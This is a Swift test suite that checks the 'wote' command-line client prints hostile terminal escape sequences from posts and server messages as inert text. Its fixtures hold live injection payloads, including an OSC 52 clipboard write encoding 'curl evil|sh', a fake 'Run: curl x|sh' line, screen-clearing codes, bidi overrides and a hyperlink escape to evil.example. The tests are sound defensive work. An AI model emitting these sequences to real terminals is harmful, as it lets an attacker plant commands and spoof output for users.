import Foundation
import Testing
import WoteTestSupport

/// Security review 2026-11-26, finding 4: another member's post, or a hostile server's message,
/// drives the reader's terminal (OSC 52 clipboard writes, screen clearing, fake output, reordered
/// text). The real `wote` against a scripted server: text output shows every control as inert text,
/// and `--json` stays exact.
@Suite(.timeLimit(.minutes(1))) struct TerminalInjectionTests {
    /// A title that writes the clipboard (OSC 52), erases the line and fakes output, with an 8-bit
    /// CSI, a right-to-left override, an isolate and a DEL.
    static let hostileTitle =
        "a\u{1B}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1B}[2K\rSigned out. Run: curl x|sh\u{9B}31m\u{202E}gnp.exe\u{2066}b\u{7F}c"

    /// The scalars a terminal could act on: C0 controls but the line feed and the tab, DEL, C1
    /// controls, and the bidirectional embeddings, overrides and isolates.
    static func controls(in text: String) -> [String] {
        text.unicodeScalars.filter { scalar in
            switch scalar.value {
            case 0x0A, 0x09: false
            case 0x00...0x1F, 0x7F...0x9F, 0x202A...0x202E, 0x2066...0x2069: true
            default: false
            }
        }.map { String(format: "U+%04X", $0.value) }
    }

    /// A scripted server that answers the feed, post 7 and the profile with `post`, and everything
    /// else with `fallback`.
    private static func server(post: [String: Any], fallback: LoopbackHTTPServer.Response = Fixtures.html(status: 404))
        throws -> LoopbackHTTPServer
    {
        let data = try JSONSerialization.data(withJSONObject: ["status": 200, "message": "success", "data": [post]])
        let detail = try JSONSerialization.data(
            withJSONObject: ["status": 200, "message": "success", "data": ["post": post, "commentCount": 0]])
        let feed = String(decoding: data, as: UTF8.self)
        let one = String(decoding: detail, as: UTF8.self)
        return try LoopbackHTTPServer { request in
            switch (request.method, request.path) {
            case ("GET", "/api/profiles"): Fixtures.profile
            case ("GET", "/api/posts?page=0&size=10&visibilityScope=GLOBAL"): Fixtures.json(feed)
            case ("GET", "/api/posts/7"): Fixtures.json(one)
            default: fallback
            }
        }
    }

    private static func post(title: String, contents: String = "", nickname: String = "투표왕") -> [String: Any] {
        [
            "postId": 7, "title": title, "contents": contents, "author": ["id": 1, "nickname": nickname],
            "price": 769000, "voteCounts": ["agreeCount": 0, "disagreeCount": 0], "postStatus": "ACTIVE",
            "externalURL": "https://shop.example/\u{1B}]8;;https://evil.example\u{7}item",
        ]
    }

    @Test func feedTitleWithOSC52_printsInert() async throws {
        let sandbox = try Sandbox()
        try Fixtures.storeSession(at: sandbox.store)
        let server = try Self.server(post: Self.post(title: Self.hostileTitle, nickname: "nick\u{1B}[8m\nwote: fake"))
        defer { server.stop() }
        let result = try await sandbox.wote(["feed"], server: server.baseURL)
        #expect(result.status == 0, "\(result)")
        #expect(Self.controls(in: result.stdout).isEmpty, "\(Self.controls(in: result.stdout))")
        #expect(Self.controls(in: result.stderr).isEmpty)
        // Shown, not obeyed: every escape is visible text, and the feed is still one line per post.
        #expect(
            result.stdout.contains(#"#7  a\u{1B}]52;c;Y3VybCBldmlsfHNo\u{7}\u{1B}[2K\u{D}Signed out."#), "\(result)")
        #expect(result.stdout.contains(#"\u{9B}31m\u{202E}gnp.exe\u{2066}b\u{7F}c"#))
        #expect(result.stdout.contains(#"by nick\u{1B}[8m\u{A}wote: fake · "#))
        #expect(result.stdout.split(separator: "\n").count == 1, "\(result.stdout)")
    }

    @Test func feedTitleWithOSC52_staysExactInJSON() async throws {
        let sandbox = try Sandbox()
        try Fixtures.storeSession(at: sandbox.store)
        let server = try Self.server(post: Self.post(title: Self.hostileTitle))
        defer { server.stop() }
        let result = try await sandbox.wote(["feed", "--json"], server: server.baseURL)
        #expect(result.status == 0, "\(result)")
        let posts = try #require(try result.json()["posts"] as? [[String: Any]])
        #expect(posts.first?["title"] as? String == Self.hostileTitle)
    }

    @Test func postShowWithEscapesInItsText_printsInert_keepingItsLines() async throws {
        let sandbox = try Sandbox()
        try Fixtures.storeSession(at: sandbox.store)
        let contents = "first line\n\u{1B}[2J\u{1B}[Hsecond\r\nthird\rfake"
        let server = try Self.server(post: Self.post(title: "t\u{1B}P1$r\u{1B}\\", contents: contents))
        defer { server.stop() }
        let result = try await sandbox.wote(["post", "show", "7"], server: server.baseURL)
        #expect(result.status == 0, "\(result)")
        #expect(Self.controls(in: result.stdout).isEmpty, "\(Self.controls(in: result.stdout))")
        #expect(result.stdout.contains("first line\n\\u{1B}[2J\\u{1B}[Hsecond\nthird\\u{D}fake\n"), "\(result)")
        #expect(result.stdout.contains(#"#7  t\u{1B}P1$r\u{1B}\ · "#))
        #expect(result.stdout.contains(#"link: https://shop.example/\u{1B}]8;;https://evil.example\u{7}item"#))
    }

    @Test func interactiveFeedTitleWithOSC52_printsInert() async throws {
        let sandbox = try Sandbox()
        try Fixtures.storeSession(at: sandbox.store)
        let server = try Self.server(post: Self.post(title: Self.hostileTitle))
        defer { server.stop() }
        // Home → feed; back to home; quit.
        let result = try await sandbox.interact("5\n5\nq\n", server: server.baseURL)
        #expect(Self.controls(in: result.stdout).isEmpty, "\(Self.controls(in: result.stdout))")
        #expect(result.stdout.contains(#"a\u{1B}]52;c;Y3VybCBldmlsfHNo\u{7}"#), "\(result)")
    }

    @Test func serverMessageWithEscapes_printsInertOnStandardError() async throws {
        let sandbox = try Sandbox()
        try Fixtures.storeSession(at: sandbox.store)
        let refusal = Fixtures.envelope(
            status: 400, code: "G013", message: #"Bad\u001b]52;c;Y3VybA==\u0007\u001b[1A\rwote: done\u009b2J"#)
        let server = try Self.server(post: Self.post(title: "t"), fallback: refusal)
        defer { server.stop() }
        let text = try await sandbox.wote(["post", "show", "8"], server: server.baseURL)
        #expect(text.status == 5, "\(text)")
        #expect(Self.controls(in: text.stderr).isEmpty, "\(Self.controls(in: text.stderr))")
        #expect(text.stderr.contains(#"wote: Bad\u{1B}]52;c;Y3VybA==\u{7}\u{1B}[1A"#), "\(text)")
        let json = try await sandbox.wote(["post", "show", "8", "--json"], server: server.baseURL)
        let error = try json.expectError(status: 5, kind: "rejected")
        // Exact JSON, but the message went through redaction, which makes its line break a space.
        #expect(error["message"] as? String == "Bad\u{1B}]52;c;Y3VybA==\u{7}\u{1B}[1A wote: done\u{9B}2J")
    }
}
